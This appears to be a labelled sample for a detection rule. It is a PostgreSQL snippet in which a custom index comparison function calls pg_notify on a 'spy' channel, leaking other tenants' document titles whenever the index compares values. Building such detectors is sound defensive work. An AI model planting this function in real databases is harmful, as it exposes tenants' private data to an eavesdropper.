-- An index shows each new value to code beside those of other tenants that it is compared with.
-- rule: expression-function
CREATE FUNCTION public.compare(one text, other text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM pg_notify('spy', one || other); RETURN bttextcmp(one, other); END $$;
CREATE OPERATOR CLASS public.compared FOR TYPE text USING btree AS
  OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 >=, OPERATOR 5 >, FUNCTION 1 public.compare(text, text);
CREATE INDEX ON tenant.documents (account_id, title public.compared);
